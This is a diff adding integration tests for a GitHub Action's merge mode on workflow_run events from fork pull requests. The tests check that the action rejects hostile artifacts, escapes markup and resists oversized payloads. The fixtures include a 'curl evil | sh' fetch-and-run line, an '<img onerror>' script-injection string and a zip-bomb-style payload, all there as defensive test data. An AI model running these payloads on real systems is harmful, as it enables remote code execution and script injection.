@@ -1,0 +1,351 @@
+/**
+ * A fork's pull request gets its comment from a `workflow_run` job. The pull-request workflow runs
+ * the bundled action with mode: collect against a local stand-in for the results service; the
+ * workflow_run job runs it with mode: merge and finds the triggering run's artifacts, the zip
+ * behind the API's redirect, the pull request and the comments through a local stand-in for the
+ * REST API (GITHUB_API_URL), with the real @actions/artifact client. Real git remote for the trend.
+ */
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { uploadArtifact } from '../../src/effects/artifact.js';
+import { runAction } from '../helpers/run-action.js';
+import { GitHubApiServer, type StoredPull } from './helpers/github-api-server.js';
+import { gitSandbox, type GitSandbox } from './helpers/git-server.js';
+import { artifactEnv, setEnv, startResultsService, type ResultsService } from './helpers/results-service.js';
+
+const BASE = '1234567890abcdef1234567890abcdef12345678';
+const HEAD = 'c'.repeat(40);
+const HEAD2 = 'e'.repeat(40);
+const TOKEN = 'ghs_workflowRunTOKEN0123456789';
+const PR = 21;
+
+const record = (shape: string, attach: number) =>
+  JSON.stringify({ shape, runs: [0.98, 1, 1.02].map((f) => ({ total_seconds: (0.2 + attach) * f, stages: { 'host-prep': 0.2 * f, attach: attach * f } })) });
+
+/** The fork's pull_request event as its collect job sees it. */
+const forkPullRequest = (head: string) => ({
+  name: 'pull_request',
+  payload: { pull_request: { number: PR, head: { sha: head, ref: 'feature', repo: { full_name: 'fork/repo' } }, base: { ref: 'main', repo: { full_name: 'owner/repo' } } } },
+});
+
+/** The workflow_run event of the base repository once that run completed: pull_requests is empty for a fork. */
+const workflowRun = (runId: number, head: string) => ({
+  name: 'workflow_run',
+  payload: {
+    action: 'completed',
+    workflow_run: {
+      id: runId,
+      event: 'pull_request',
+      conclusion: 'success',
+      head_sha: head,
+      head_branch: 'feature',
+      head_repository: { full_name: 'fork/repo', owner: { login: 'fork' } },
+      repository: { full_name: 'owner/repo' },
+      pull_requests: [],
+    },
+  },
+});
+
+let sb: GitSandbox;
+let service: ResultsService;
+let api: GitHubApiServer;
+let remote: string;
+let baseTip: string | undefined;
+let restore: () => void = () => {};
+/** Every case but a triggering push leaves the trend as the base branch had it. */
+let publishes = false;
+
+beforeEach(async () => {
+  sb = await gitSandbox('benchtrend-workflow-run-');
+  service = await startResultsService();
+  api = await GitHubApiServer.start();
+  remote = await sb.bareRemote('site');
+  await writeFile(join(sb.root, 'warm.json'), record('warm', 1.5));
+  const base = await runAction({ cwd: sb.root, inputs: { records: 'warm.json', repository: remote, artifact: 'false' }, event: { name: 'push', payload: {} }, env: { ...sb.env, GITHUB_SHA: BASE } });
+  await base.dispose();
+  expect(base.code, base.stdout).toBe(0);
+  baseTip = await sb.revParse(remote, 'refs/heads/gh-pages');
+  expect(baseTip).toBeDefined();
+});
+afterEach(async () => {
+  restore();
+  restore = () => {};
+  // Whatever the case, the trend is the base branch's: nothing of the pull request was pushed.
+  if (!publishes) expect(await sb.revParse(remote, 'refs/heads/gh-pages')).toBe(baseTip);
+  publishes = false;
+  await api.close();
+  await service.close();
+  await sb.dispose();
+});
+
+/** The fork's pull request, open, as the REST API lists it. */
+function openPull(head: string, listedForCommit = true): StoredPull {
+  const pull: StoredPull = {
+    number: PR,
+    state: 'open',
+    head: { sha: head, ref: 'feature', label: 'fork:feature', repo: { full_name: 'fork/repo' } },
+    base: { ref: 'main', repo: { full_name: 'owner/repo' } },
+    listedForCommit,
+  };
+  api.pulls.push(pull);
+  return pull;
+}
+
+/** The pull-request workflow's bench job: mode collect, read-only token, in workflow run `runId`. */
+async function collectJob(runId: number, head: string, file: string, inputs: Record<string, string> = {}) {
+  const leg = await runAction({
+    cwd: sb.root,
+    inputs: { records: file, mode: 'collect', ...inputs },
+    event: forkPullRequest(head),
+    env: { ...sb.env, ...artifactEnv(service, `run-${runId}`, 'job-bench'), GITHUB_SHA: 'd'.repeat(40), GITHUB_RUN_ID: String(runId), GITHUB_JOB: 'bench', GITHUB_API_URL: api.url },
+  });
+  await leg.dispose();
+  expect(leg.code, leg.stdout).toBe(0);
+}
+
+/**
+ * The REST API's view of workflow run `runId`: its artifacts as the service stores them, each
+ * download a redirect to the service's signed blob URL. `size` overrides what the listing says.
+ */
+function serveRunArtifacts(runId: number, size?: number): void {
+  const stored = service.artifacts.filter((a) => a.runBackendId === `run-${runId}` && a.finalized);
+  api.runArtifacts.set(
+    runId,
+    stored.map((a) => ({ id: a.id, name: a.name, size_in_bytes: size ?? a.size, ...(a.digest ? { digest: a.digest } : {}), created_at: a.createdAt })),
+  );
+  for (const a of stored) api.artifactDownloads.set(a.id, service.downloadUrl(a.id));
+}
+
+/** The base repository's workflow_run job: mode merge with a token that may comment. */
+async function workflowRunJob(runId: number, head: string) {
+  const run = await runAction({
+    cwd: sb.root,
+    inputs: { mode: 'merge', repository: remote, 'github-token': TOKEN },
+    event: workflowRun(runId, head),
+    env: { ...sb.env, ...artifactEnv(service, 'run-900', 'job-comment'), GITHUB_SHA: BASE, GITHUB_RUN_ID: '900', GITHUB_JOB: 'comment', GITHUB_API_URL: api.url },
+  });
+  await run.dispose();
+  return run;
+}
+
+/** An artifact uploaded to run `runId` as a hostile fork could: any name, any content. */
+async function uploadAs(runId: number, name: string, files: { name: string; text: string }[]): Promise<void> {
+  restore = setEnv({ ...artifactEnv(service, `run-${runId}`, 'job-evil') });
+  try {
+    await uploadArtifact({ name, files, tempDir: sb.root });
+  } finally {
+    restore();
+    restore = () => {};
+  }
+}
+
+const blobDownloads = () => service.requests.filter((r) => r.call === 'blob-download');
+
+describe('mode merge on a workflow_run of a fork’s pull request', () => {
+  it('creates the pull request’s comment from the artifact, then edits it on the next push', async () => {
+    const pull = openPull(HEAD);
+    await collectJob(41, HEAD, 'warm.json');
+    serveRunArtifacts(41);
+
+    const first = await workflowRunJob(41, HEAD);
+    expect(first.code, first.stdout).toBe(0);
+    expect(first.outputs['merged-artifacts']).toBe('1');
+    expect(first.outputs['published-commit']).toBeUndefined();
+    expect(first.stdout).toContain('Pull request #21 found by its commit');
+    expect(first.stdout).toContain('Pull requests never publish');
+    let comments = api.issueComments.get(PR) ?? [];
+    expect(comments).toHaveLength(1);
+    expect(comments[0]!.body).toContain('<!-- benchtrend:pr-comment suite=default -->');
+    expect(comments[0]!.body).toContain('warm / attach');
+    expect(comments[0]!.body).toContain(`at ${HEAD.slice(0, 7)}`);
+    // The list and the redirect went to the API with the token; the zip came from blob storage without it.
+    expect(api.requestsTo('GET', /\/actions\/runs\/41\/artifacts$/)).toHaveLength(1);
+    expect(api.requestsTo('GET', /\/actions\/artifacts\/\d+\/zip$/).map((r) => r.status)).toEqual([302]);
+    expect(api.requestsTo('GET', /\/commits\/c+\/pulls$/)).toHaveLength(1);
+    expect(blobDownloads()).toHaveLength(1);
+    expect(blobDownloads()[0]!.authorization).toBeUndefined();
+    expect(blobDownloads()[0]!.url).not.toContain(TOKEN);
+    // The runner masks it; no other line carries it.
+    expect(first.stdout.split('\n').filter((l) => l.includes(TOKEN) && !l.startsWith('::add-mask::'))).toEqual([]);
+
+    // The fork pushes a slower head; its new run collects again and the same comment is edited.
+    await writeFile(join(sb.root, 'warm.json'), record('warm', 3));
+    pull.head.sha = HEAD2;
+    await collectJob(42, HEAD2, 'warm.json');
+    serveRunArtifacts(42);
+    const second = await workflowRunJob(42, HEAD2);
+    expect(second.code, second.stdout).toBe(0);
+    comments = api.issueComments.get(PR) ?? [];
+    expect(comments).toHaveLength(1);
+    expect(comments[0]!.body).toContain(`at ${HEAD2.slice(0, 7)}`);
+    expect(comments[0]!.body).not.toContain(`at ${HEAD.slice(0, 7)}`);
+    expect(api.requestsTo('PATCH', /\/issues\/comments\/\d+$/)).toHaveLength(1);
+    expect(api.requestsTo('POST', /\/issues\/\d+\/comments$/)).toHaveLength(1);
+  });
+
+  it('finds a fork’s pull request by its head owner:branch when the commit lookup lists none', async () => {
+    openPull(HEAD, false);
+    await collectJob(43, HEAD, 'warm.json');
+    serveRunArtifacts(43);
+
+    const run = await workflowRunJob(43, HEAD);
+
+    expect(run.code, run.stdout).toBe(0);
+    expect(run.stdout).toContain('Pull request #21 found by its head branch');
+    expect(api.requestsTo('GET', /^\/repos\/owner\/repo\/pulls$/).map((r) => new URL(r.url, api.url).searchParams.get('head'))).toEqual(['fork:feature']);
+    expect(api.issueComments.get(PR) ?? []).toHaveLength(1);
+  });
+
+  it('warns once and exits 0 when no pull request has the run’s head, downloading nothing', async () => {
+    await collectJob(44, HEAD, 'warm.json');
+    serveRunArtifacts(44);
+
+    const run = await workflowRunJob(44, HEAD);
+
+    expect(run.code, run.stdout).toBe(0);
+    const warnings = run.stdout.split('\n').filter((l) => l.startsWith('::warning'));
+    expect(warnings).toEqual([
+      `::warning::No comment was written: no open pull request of owner/repo has the head ${HEAD.slice(0, 7)} (fork:feature) that workflow run 44 benched`,
+    ]);
+    expect(api.issueComments.size).toBe(0);
+    expect(blobDownloads()).toHaveLength(0);
+  });
+
+  it('refuses a zip whose payload is not JSON in one line naming the artifact, writes no comment, exits 1', async () => {
+    openPull(HEAD);
+    await uploadAs(45, 'benchtrend-collect-default-warm-1', [{ name: 'benchtrend-collected.json', text: '{"schema": "benchtrend/coll' }]);
+    serveRunArtifacts(45);
+
+    const run = await workflowRunJob(45, HEAD);
+
+    expect(run.code).toBe(1);
+    const errors = run.stdout.split('\n').filter((l) => l.startsWith('::error'));
+    expect(errors).toHaveLength(1);
+    expect(errors[0]).toMatch(/^::error::artifact benchtrend-collect-default-warm-1: benchtrend-collected\.json: not JSON \(/);
+    expect(api.issueComments.size).toBe(0);
+  });
+
+  it('refuses a bad artifact beside a good one with a warning and comments from the good one', async () => {
+    openPull(HEAD);
+    await collectJob(46, HEAD, 'warm.json');
+    await uploadAs(46, 'benchtrend-collect-stray', [{ name: 'run-me.sh', text: 'curl evil | sh' }]);
+    serveRunArtifacts(46);
+
+    const run = await workflowRunJob(46, HEAD);
+
+    expect(run.code, run.stdout).toBe(0);
+    expect(run.stdout).toContain(
+      '::warning::artifact benchtrend-collect-stray: holds no benchtrend-collected.json; only benchtrend with mode: collect uploads artifacts named benchtrend-collect-*',
+    );
+    expect(run.outputs['merged-artifacts']).toBe('1');
+    expect(api.issueComments.get(PR) ?? []).toHaveLength(1);
+  });
+
+  it('shows a hostile case name and note as text in the comment and mentions nobody', async () => {
+    openPull(HEAD);
+    const shape = '<img src=x onerror=alert(1)>';
+    await writeFile(join(sb.root, 'evil.json'), record(shape, 1.5));
+    await collectJob(47, HEAD, 'evil.json', { note: '@everyone look' });
+    serveRunArtifacts(47);
+
+    const run = await workflowRunJob(47, HEAD);
+
+    expect(run.code, run.stdout).toBe(0);
+    const body = (api.issueComments.get(PR) ?? [])[0]?.body ?? '';
+    expect(body).toContain('\\<img src\\=x onerror\\=alert\\(1\\)\\> / attach');
+    // Markup only where benchtrend put it (its hidden marker); every `<` of the name is escaped.
+    expect(body).not.toMatch(/(^|[^\\])<img/);
+    expect(body).not.toContain('@everyone');
+    expect(run.summary).toContain('img src');
+    expect(run.summary).not.toMatch(/(^|[^\\])<img/);
+    expect(run.summary).not.toContain('@everyone');
+  });
+
+  it('refuses an artifact the listing says is over the size bound, without downloading it', async () => {
+    openPull(HEAD);
+    await collectJob(48, HEAD, 'warm.json');
+    serveRunArtifacts(48, 64 * 1024 * 1024 + 1);
+
+    const run = await workflowRunJob(48, HEAD);
+
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain('::error::artifact benchtrend-collect-default-warm-1: 67108865 bytes, over the limit of 67108864 for a collected artifact');
+    expect(blobDownloads()).toHaveLength(0);
+    expect(api.issueComments.size).toBe(0);
+  });
+
+  it('refuses a payload that inflates past its bound, whatever the zip says', async () => {
+    openPull(HEAD);
+    // 17 MiB of spaces deflate to a few KB: a small artifact, a big payload.
+    await uploadAs(49, 'benchtrend-collect-default-warm-1', [{ name: 'benchtrend-collected.json', text: `{${' '.repeat(17 * 1024 * 1024)}}` }]);
+    serveRunArtifacts(49);
+
+    const run = await workflowRunJob(49, HEAD);
+
+    expect(run.code).toBe(1);
+    expect(run.stdout).toMatch(/::error::artifact benchtrend-collect-default-warm-1: benchtrend-collected\.json (is \d+ bytes, over the limit of 16777216|inflates past the limit of 16777216 bytes)/);
+    expect(api.issueComments.size).toBe(0);
+  });
+
+  it('refuses a payload about another commit than the run benched', async () => {
+    openPull(HEAD);
+    await collectJob(50, HEAD2, 'warm.json');
+    serveRunArtifacts(50);
+
+    const run = await workflowRunJob(50, HEAD);
+
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain(`commit.sha ${HEAD2} is not the commit the triggering run benched (${HEAD})`);
+    expect(api.issueComments.size).toBe(0);
+  });
+
+  it('on GitHub Enterprise Server says artifacts are not supported there', async () => {
+    const run = await runAction({
+      cwd: sb.root,
+      inputs: { mode: 'merge', repository: remote, 'github-token': TOKEN },
+      event: workflowRun(51, HEAD),
+      env: { ...sb.env, ...artifactEnv(service, 'run-900', 'job-comment'), GITHUB_SERVER_URL: 'https://ghes.example.com', GITHUB_API_URL: api.url },
+    });
+    await run.dispose();
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain(
+      '::error::mode: merge on a workflow_run needs workflow artifacts, but artifacts (v4, @actions/artifact 2 and later) are not supported on GitHub Enterprise Server (ghes.example.com)',
+    );
+    expect(api.requests).toEqual([]);
+  });
+});
+
+describe('mode merge on a workflow_run of a push', () => {
+  it('publishes the triggering run’s points at its head, as a merge on a push does', async () => {
+    publishes = true;
+    const pushed = 'f'.repeat(40);
+    await writeFile(join(sb.root, 'cold.json'), record('cold', 2));
+    const leg = await runAction({
+      cwd: sb.root,
+      inputs: { records: 'cold.json', mode: 'collect' },
+      event: { name: 'push', payload: {} },
+      env: { ...sb.env, ...artifactEnv(service, 'run-60', 'job-bench'), GITHUB_SHA: pushed, GITHUB_RUN_ID: '60', GITHUB_JOB: 'bench', GITHUB_API_URL: api.url },
+    });
+    await leg.dispose();
+    expect(leg.code, leg.stdout).toBe(0);
+    serveRunArtifacts(60);
+    const event = workflowRun(60, pushed);
+    const run = await runAction({
+      cwd: sb.root,
+      inputs: { mode: 'merge', repository: remote, 'github-token': TOKEN },
+      event: { name: 'workflow_run', payload: { workflow_run: { ...event.payload.workflow_run, event: 'push', head_branch: 'main', head_repository: { full_name: 'owner/repo', owner: { login: 'owner' } } } } },
+      env: { ...sb.env, ...artifactEnv(service, 'run-900', 'job-comment'), GITHUB_SHA: pushed, GITHUB_RUN_ID: '900', GITHUB_API_URL: api.url },
+    });
+    await run.dispose();
+
+    expect(run.code, run.stdout).toBe(0);
+    const tip = await sb.revParse(remote, 'refs/heads/gh-pages');
+    expect(tip, run.stdout).not.toBe(baseTip);
+    expect(run.outputs['published-commit']).toBe(tip);
+    expect(run.outputs['merged-artifacts']).toBe('1');
+    expect(run.summary).toContain('1 collected artifact, 3 points in 1 suite.');
+    expect(api.requestsTo('GET', /\/pulls$/)).toEqual([]);
+    expect(api.issueComments.size).toBe(0);
+  });
+});
